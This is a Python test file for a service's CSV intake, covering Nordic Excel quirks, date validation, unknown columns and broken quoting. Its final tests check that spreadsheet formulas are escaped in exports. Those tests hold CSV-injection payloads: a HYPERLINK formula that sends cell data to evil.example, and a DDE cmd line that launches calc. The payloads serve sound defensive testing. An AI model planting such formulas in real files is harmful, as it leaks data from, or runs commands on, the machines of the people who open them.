"""CSV as Danish and Norwegian Excel writes it, and as people break it: semicolons and
decimal commas, a byte order mark, CRLF, Windows-1252; dates that are not ISO 8601; unknown
fields the same in JSON and CSV; unterminated quotes and duplicated columns; and formulas
that must not run in the spreadsheets Virker hands out."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import uuid

import pytest

from outcomes.tables import Claim, IntakeBatch, Participant
from reports.assembly import assemble
from reports.attachments import spreadsheet_safe
from tests.api.test_intake import claim, setup

ENROL = "pseudonym;enrolled_on;age_band;area\r\nROS-1;2024-02-01;18-24;Høje-Taastrup\r\n"


def csv_headers(w, **extra) -> dict:
    return {**w.headers("provider"), "content-type": "text/csv", **extra}


async def enrol(api, w, cid, body: bytes):
    return await api.post(f"/api/v1/contracts/{cid}/participants", content=body,
                          headers=csv_headers(w))


async def submit(api, w, cid, body: bytes):
    return await api.post(f"/api/v1/contracts/{cid}/claims", content=body,
                          headers=csv_headers(w, **{"Idempotency-Key": uuid.uuid4().hex}))


@pytest.mark.parametrize("encoding,body", [
    ("utf-8 with BOM and CRLF", ("\ufeff" + ENROL).encode()),
    ("Windows-1252", ENROL.encode("cp1252")),
    ("UTF-16 with BOM, tabs", ENROL.replace(";", "\t").encode("utf-16")),
    ("Excel's sep= line", ("sep=;\r\n" + ENROL).encode()),
], ids=lambda v: v if isinstance(v, str) and len(v) < 40 else "")
async def test_excel_csv_from_denmark_and_norway_is_read(api, world, encoding, body):
    w = world
    cid = await setup(api, w)
    r = await enrol(api, w, cid, body)
    assert r.status_code == 201, r.text
    assert [x["status"] for x in r.json()["results"]] == ["created"]
    area = await Participant.select(Participant.area).first()
    assert area["area"] == "Høje-Taastrup"


async def test_semicolons_and_decimal_commas_and_blank_excel_rows(api, world):
    w = world
    cid = await setup(api, w, "ROS-1", "ROS-2")
    when = (dt.date(2024, 2, 1) + dt.timedelta(days=365)).isoformat()
    body = ("\ufeffclient_ref;pseudonym;metric_code;achieved_on;value;evidence_ref;;\r\n"
            f"s1;ROS-1;pss_reduction;{when};-6,5;pss-form-1;;\r\n"
            ";;;;;;;\r\n"
            f"s2;ROS-2;pss_reduction;{when};-4,5;pss-form-2;;\r\n").encode()
    r = await submit(api, w, cid, body)
    assert r.status_code == 201, r.text
    results = r.json()["results"]
    assert [(x["status"], [e["code"] for e in x.get("errors", [])]) for x in results] == [
        ("accepted", []), ("rejected", ["below_threshold"])]
    assert [c["value"] for c in await Claim.select(Claim.value)] == ["-6.5"]


async def test_a_file_that_is_neither_utf8_nor_windows_1252_says_how_to_save_it(api, world):
    w = world
    cid = await setup(api, w)
    # UTF-8 with one byte broken on line 3: not silently read as Windows-1252.
    body = ("pseudonym,enrolled_on,area\nROS-1,2024-02-01,Høje\n".encode()
            + b"ROS-2,2024-02-01,K\xf8ge\n")
    r = await enrol(api, w, cid, body)
    assert r.status_code == 400 and r.json()["code"] == "invalid_encoding"
    assert "line 3" in r.json()["detail"] and "CSV UTF-8" in r.json()["detail"]
    assert await Participant.count() == 0


@pytest.mark.parametrize("written", ["01-02-2024", "1/2/2024", "01.02.2024", "2024-2-1",
                                     "20240201", "1 Feb 2024"])
@pytest.mark.parametrize("media", ["csv", "json"])
async def test_dates_not_in_iso_8601_are_refused_with_use_yyyy_mm_dd(api, world, written,
                                                                     media):
    w = world
    cid = await setup(api, w)
    url = f"/api/v1/contracts/{cid}/participants"
    if media == "csv":
        r = await enrol(api, w, cid, f"pseudonym,enrolled_on\nROS-1,{written}\n".encode())
    else:
        r = await api.post(url, json=[{"pseudonym": "ROS-1", "enrolled_on": written}],
                           headers=w.headers("provider"))
    assert r.status_code == 201, r.text
    error = r.json()["results"][0]["errors"][0]
    assert (error["code"], error["field"]) == ("invalid_field", "enrolled_on")
    assert "use YYYY-MM-DD" in error["message"]


async def test_a_date_in_a_json_body_or_query_is_refused_the_same_way(api, world):
    w = world
    cid = await setup(api, w)
    r = await api.post(f"/api/v1/contracts/{cid}/payment-runs", json={
        "period_from": "01-01-2024", "period_to": "2024-12-31"},
        headers=w.headers("commissioner"))
    assert r.status_code == 400
    assert r.json()["errors"][0]["field"] == "period_from"
    assert "use YYYY-MM-DD" in r.json()["errors"][0]["message"]
    r = await api.get(f"/api/v1/contracts/{cid}/claims?achieved_from=1.1.2024",
                      headers=w.headers("commissioner"))
    assert r.status_code == 400 and "use YYYY-MM-DD" in r.text


async def test_unknown_fields_are_refused_whole_in_json_as_in_csv(api, world):
    w = world
    cid = await setup(api, w, "ROS-1")
    rows = [{**claim(f"c{i}", "ROS-1", "housing_entry", "2024-03-01"), "first_name": "Jens",
             "comment": "x"} for i in (1, 2)]
    as_json = await api.post(f"/api/v1/contracts/{cid}/claims", json=rows, headers={
        **w.headers("provider"), "Idempotency-Key": uuid.uuid4().hex})
    columns = list(rows[0])
    text = ",".join(columns) + "\n" + "".join(
        ",".join(str(row[c]) for c in columns) + "\n" for row in rows)
    as_csv = await submit(api, w, cid, text.encode())
    for r in (as_json, as_csv):
        assert r.status_code == 422, r.text
        assert r.json()["code"] == "unknown_columns"
        assert {e["field"] for e in r.json()["errors"]} == {"first_name", "comment"}
    assert await Claim.count() == 0 and await IntakeBatch.count() == 1  # the enrolment


@pytest.mark.parametrize("body,code,line", [
    ('pseudonym,enrolled_on,area\nROS-1,2024-02-01,"Roskilde\nROS-2,2024-02-01,Køge\n',
     "invalid_csv", 2),
    ('pseudonym,enrolled_on\nROS-1,2024-02-01\nROS-2,"2024-02-01"x\n', "invalid_csv", 3),
    ("pseudonym,enrolled_on,area,area\nROS-1,2024-02-01,Roskilde,Køge\n",
     "duplicate_columns", 1),
], ids=["unterminated quote", "text after a closing quote", "duplicated column"])
async def test_a_broken_csv_is_422_with_the_line(api, world, body, code, line):
    w = world
    cid = await setup(api, w)
    r = await enrol(api, w, cid, body.encode())
    assert r.status_code == 422, r.text
    assert r.json()["code"] == code
    assert f"line {line}" in r.json()["detail"]
    assert await Participant.count() == 0 and await IntakeBatch.count() == 0


@pytest.mark.parametrize("value,safe", [
    ('=HYPERLINK("http://evil.example","open")', "'=HYPERLINK(\"http://evil.example\",\"open\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("-6", "-6"), ("+3.5", "+3.5"), ("lease-1", "lease-1"), (-1500000, -1500000),
])
def test_cells_a_spreadsheet_would_run_are_quoted(value, safe):
    assert spreadsheet_safe(value) == safe


async def test_a_formula_in_evidence_ref_reaches_claims_csv_as_text(api, world):
    w = world
    cid = await setup(api, w, "ROS-1")
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"lease")'
    r = await api.post(f"/api/v1/contracts/{cid}/claims", json=[
        {**claim("c1", "ROS-1", "housing_entry", "2024-03-01"), "evidence_ref": evil}],
        headers={**w.headers("provider"), "Idempotency-Key": "formula"})
    assert r.json()["results"][0]["status"] == "accepted", r.text
    statement = await assemble(cid, dt.date(2024, 1, 1), dt.date.today())
    files = {a.name: a.content() for a in statement.attachments}
    for name in ("claims.csv", "journal.csv", "rejections.csv"):
        for row in csv.reader(io.StringIO(files[name].decode())):
            assert not any(cell[:1] in ("=", "+", "@") for cell in row), (name, row)
    claims = list(csv.DictReader(io.StringIO(files["claims.csv"].decode())))
    assert claims[0]["evidence_ref"] == "'" + evil
    document = json.loads(files["claims.json"])
    column = document["columns"].index("evidence_ref")
    assert document["claims"][0][column] == evil  # JSON is not a spreadsheet: verbatim
